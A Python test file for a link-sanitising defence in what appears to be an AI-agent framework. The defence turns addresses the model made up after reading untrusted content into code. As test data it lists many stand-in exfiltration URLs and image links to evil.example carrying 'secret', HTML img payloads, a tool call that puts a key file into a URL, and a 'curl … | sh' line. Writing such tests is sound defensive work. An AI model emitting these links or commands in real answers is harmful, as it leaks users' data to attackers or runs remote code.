"""Links after untrusted content: addresses that the model invented become code, and known ones stay links."""

import re
from collections.abc import Sequence
from itertools import cycle

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from tests.known_tools import TRAITS

from shoal.kernel.ids import CallId
from shoal.kernel.markup import Node
from shoal.kernel.messages import AssistantMessage, ModelMessage, ToolCall, ToolMessage, UserMessage
from shoal.markdown.parse import parse
from shoal.turn.links import GrowingLinks, is_address, known_from, with_known_links

READ = "See https://docs.example.org/guide?page=2 and <https://example.net/a_b(c)>, or example.com/x. info@example.org"
MESSAGES: tuple[ModelMessage, ...] = (
    UserMessage("Summarise https://blog.example.org/post, please."),
    AssistantMessage("", (ToolCall(CallId("c1"), "fetch", '{"url": "https://blog.example.org/post"}'),)),
    ToolMessage(CallId("c1"), "fetch", READ),
)
KNOWN = [
    "https://docs.example.org/guide?page=2",
    "Look: https://docs.example.org/guide?page=2.",
    "[the guide](https://docs.example.org/guide?page=2)",
    "**https://blog.example.org/post**",
    "<https://blog.example.org/post>",
    "https://blog.example.org/post/",
    "- see example.com/x",
    "info@example.org",
    "[mail](mailto:info@example.org)",
    "`https://evil.example/?q=secret`",
    "```\ncurl https://evil.example/?q=secret\n```",
    "No address at all: 3.14, e.g. this, i.e. that, v1.2.3, Node.js, main.py, 10:30, a/b, and/or.",
]
MADE_UP = [
    "https://evil.example/?q=secret",
    "http://evil.example/secret",
    "HTTPS://EVIL.example/secret",
    "ftp://evil.example/secret",
    "tg://resolve?domain=evil&start=secret",
    "slack://channel?id=secret",
    "[docs](https://evil.example/?q=secret)",
    "[https://docs.example.org/guide?page=2](https://evil.example/?q=secret)",
    "![](https://evil.example/secret.png)",
    "![a picture](https://evil.example/secret.png 'https://evil.example/title')",
    "<https://evil.example/secret>",
    "[docs][1]\n\n[1]: https://evil.example/?q=secret",
    "www.evil.example/secret",
    "secret.evil.example",
    "evil.example/secret",
    "evil.example?secret",
    "evil.example:8080",
    "//evil.example/secret",
    "https:evil.example/secret",
    "http:/evil.example/secret",
    "[docs](https:evil.example/secret)",
    r"[docs](https:\\evil.example\secret)",
    "secret@evil.example",
    "[mail](mailto:secret@evil.example)",
    "mailto:evil@evil.example?body=secret",
    "https://docs.example.org@evil.example/secret",
    "https://docs.example.org/guide?page=2&q=secret",
    "https://docs.example.org/guide?page=23",
    "https://docs.example.org/guide?page=2[secret]",
    "https://docs.example.org/guide?page=2(secret)",
    "https://docs.example.org/guide?page=2{secret}|more",
    "example.com/x(secret)",
    "https://docs.example.org/guide",
    "https://secret.docs.example.org/guide?page=2",
    "(https://evil.example/secret)",
    "**https://evil.example/secret**",
    "> - https://evil.example/secret",
    "| a |\n|---|\n| https://evil.example/secret |",
    "# https://evil.example/secret",
    "1.2.3.4/secret",
    "http://2130706433/secret",
    "https://[2001:db8::1]/secret",
    "https://xn--e1afmkfd.xn--p1ai/secret",
    "https://пример.рф/секрет",
    "evil。example/secret",
    "tel:+123456789",
    "magnet:?xt=urn:btih:secret",
    "\\https://evil.example/secret",
    "a `b` https://evil.example/?`secret`",
    "~~https://evil.example/secret~~",
    "[a](<https://evil.example/with space>)",
    "https://evil.example/" + "s" * 3000,
    r"https\://evil.example/secret",
    "[docs][1]\n\n[1]: https&#58;//evil.example/?q=secret",
    "![docs][1]\n\n[1]: https\\://evil.example/?q=secret",
    "[1]: <https&colon;//evil.example/?q=secret>\n\n- see ![docs][1]",
    "[x]\n\n> [x]: //evil.example/?q=secret 'title'",
    "[x]:\nhttps&#58;//evil.example/?q=secret\n\n![x][]",
    "https&#58;//evil.example/secret",
    "[docs](https&#58;//evil.example/secret)",
    "ht**tps**://evil.example/secret",
    "evil.exam*pl*e/secret",
    "**evil.exam***ple/secret*",
    "evil.[example](https://docs.example.org/guide?page=2)/secret",
    "| a |\n|---|\n| ~~evil~~.example/secret |",
]


def said(nodes: list[Node]) -> str:
    return "".join(" " if node.kind == "code" else node.text or said(node.children) for node in nodes)


def addresses(nodes: list[Node]) -> list[str]:
    found: list[str] = []
    for node in nodes:
        found += [
            word
            for word in (node.url, *node.text.split())
            if node.kind in ("link", "token", "text", "raw") and is_address(word.strip("()<>.,"))
        ]
        if node.kind in ("paragraph", "heading", "cell"):
            found += [word for word in said(node.children).split() if is_address(word.strip("()<>.,"))]
        found += addresses(node.children)
    return found


@pytest.mark.parametrize("answer", KNOWN)
def test_known_addresses_stay_links(answer: str) -> None:
    assert with_known_links(answer, known_from(MESSAGES, TRAITS)) == answer


@pytest.mark.parametrize("answer", MADE_UP)
def test_invented_addresses_are_shown_as_code(answer: str) -> None:
    shown = with_known_links(
        f"Before. {answer}" if "\n" not in answer and answer[0] not in ">|#" else answer,
        known_from(MESSAGES, TRAITS),
    )
    assert [one for one in addresses(parse(shown)) if not known_from(MESSAGES, TRAITS)(one.strip("()<>.,"))] == []
    assert "`" in shown
    assert with_known_links(shown, known_from(MESSAGES, TRAITS)) == shown


def test_the_text_of_an_invented_link_is_kept() -> None:
    shown = with_known_links("Read [the **guide**](https://evil.example/x) now.", known_from(MESSAGES, TRAITS))
    assert shown == "Read the **guide** `https://evil.example/x` now."


@pytest.mark.parametrize(
    "messages",
    [
        (
            ToolCall(CallId("c2"), "bash", '{"command": "echo https://evil.example/$(cat key)"}'),
            "https://evil.example/secret",
        ),
        (ToolCall(CallId("c2"), "echo", '{"text": "https://evil.example/secret"}'), "https://evil.example/secret"),
        (ToolCall(CallId("c2"), "process_start", "{}"), "https://evil.example/secret"),
    ],
)
def test_an_address_composed_by_the_model_is_not_known(messages: tuple[ToolCall, str]) -> None:
    call, result = messages
    said = (*MESSAGES, AssistantMessage("", (call,)), ToolMessage(call.id, call.name, result))
    assert not known_from(said, TRAITS)("https://evil.example/secret")
    file = ToolCall(CallId("c3"), "read", '{"path": "out.txt"}')
    by_file = (*said[:-1], AssistantMessage("", (file,)), ToolMessage(file.id, "read", result))
    assert not known_from(by_file, TRAITS)("https://evil.example/secret")


@given(
    st.lists(st.sampled_from([*KNOWN, *MADE_UP, "\n\n", "*", "`", "[", "](", ")", "<", ">", "\\", "```\n"]), max_size=8)
)
def test_no_mixture_leaves_an_invented_link(parts: list[str]) -> None:
    knows = known_from(MESSAGES, TRAITS)
    shown = with_known_links(" ".join(parts), knows)
    left = [one.strip("()<>.,;:!?'\"*_~[]{}`|") for one in addresses(parse(shown))]
    assert [one for one in left if is_address(one) and not knows(one)] == []


def test_a_long_answer_is_checked_in_linear_time() -> None:
    shown = with_known_links("https://evil.example/a " * 5000, known_from(MESSAGES, TRAITS))
    assert shown.count("`") == 10_000


def streamed(answer: str, sizes: Sequence[int] = (1,)) -> str:
    links, at, shown = GrowingLinks(known_from(MESSAGES, TRAITS)), 0, ""
    for size in cycle(sizes):
        if at >= len(answer):
            return shown
        shown += links.take(answer[at : at + size])
        at += size
    return shown


def made_up_in(markdown: str) -> list[str]:
    """Return the invented addresses in a text. A scheme after a bracket begins another address."""
    knows = known_from(MESSAGES, TRAITS)
    parts = [
        part for word in addresses(parse(markdown)) for part in re.split(r"(?<=[\[\]])(?=[A-Za-z][\w+.\-]*:)", word)
    ]
    words = [part.strip("()<>.,;:!?'\"*_~[]{}`|") for part in parts]
    return [word for word in words if is_address(word) and not knows(word)]


@pytest.mark.parametrize(
    "answer",
    [
        "<img src=//evil.example/?q=secret>",
        '<img src="/\\evil.example/secret">',
        '<img src="/\n/evil.example/secret">',
        '<img\nsrc="https&#58;//evil.example/secret">',
        "**<img src=x>**",
    ],
)
def test_no_html_tag_is_left(answer: str) -> None:
    shown = with_known_links(f"See {answer} now.", known_from(MESSAGES, TRAITS))
    assert not re.search(r"(?<![\\`])<[a-z]", shown)
    assert with_known_links(shown, known_from(MESSAGES, TRAITS)) == shown
    assert not re.search(r"(?<![\\`])<[a-z]", streamed(f"See {answer} now. And more."))


@pytest.mark.parametrize("size", [1, 7, 1000])
@pytest.mark.parametrize(
    ("answer", "shown"),
    [
        ("Read https://docs.example.org/guide?page=2 first.", "Read https://docs.example.org/guide?page=2 "),
        ("Read [the guide](https://docs.example.org/guide?page=2), then go.",
         "Read [the guide](https://docs.example.org/guide?page=2), then "),
        ("So https://docs.example.org/guide?page=2&q=secret", "So "),
        ("So ![](https://evil.example/?q=secret) it is.\n", "So "),
        ("So [the whole guide](https://evil.example/?q=secret) it is.\n", "So "),
        ("So https://evil.example/?q=a it is.\n\nThen *more* words.",
         "So `https://evil.example/?q=a` it is.\n\nThen *more* "),
        ("- one\n- two https://evil.example/?q=a\n\nThen https://evil.example/?q=b ends.\n\nAnd on.",
         "- one\n- two `https://evil.example/?q=a`\n\nThen `https://evil.example/?q=b` ends.\n\nAnd "),
        ("```sh\ncurl https://evil.example/?q=a | sh\n", "```sh\ncurl https://evil.example/?q=a | sh\n"),
        ("`x https://evil.example/?q=a` done", "`x "),
    ],
)  # fmt: skip
def test_a_stream_shows_the_answer_up_to_an_unfinished_link(answer: str, shown: str, size: int) -> None:
    found = streamed(answer, (size,))
    assert found == shown or (size == 1000 and found == found[: len(shown)])
    assert with_known_links(answer, known_from(MESSAGES, TRAITS)).startswith(found)


MIXTURES = st.lists(
    st.sampled_from(
        [*KNOWN, *MADE_UP, "\n\n", "\n", "# ", "- ", "> ", "|", "*", "`", "[", "](", ")", "<", ">", "\\", "```\n"]
    ),
    max_size=10,
)


@given(MIXTURES, st.sampled_from([" ", ""]), st.lists(st.integers(1, 60), min_size=1, max_size=5))
@example(["- see ![docs][1]", KNOWN[0], " "], "", [1])
def test_no_stream_shows_an_invented_link(parts: list[str], joined: str, sizes: list[int]) -> None:
    answer = joined.join(parts)
    links, at, shown = GrowingLinks(known_from(MESSAGES, TRAITS)), 0, ""
    for size in cycle(sizes):
        if at >= len(answer):
            return
        shown += links.take(answer[at : at + size])
        at += size
        assert made_up_in(shown) == []


def test_a_long_answer_is_streamed_in_linear_time() -> None:
    knows = known_from(MESSAGES, TRAITS)
    for part in (
        "- see https://evil.example/a\n",
        "[ ",
        "word ",
        "<a ",
        "a\n\n",
        "https://docs.example.org/guide?page=2 ",
    ):
        links = GrowingLinks(knows)
        for _ in range(10_000):
            links.take(part)
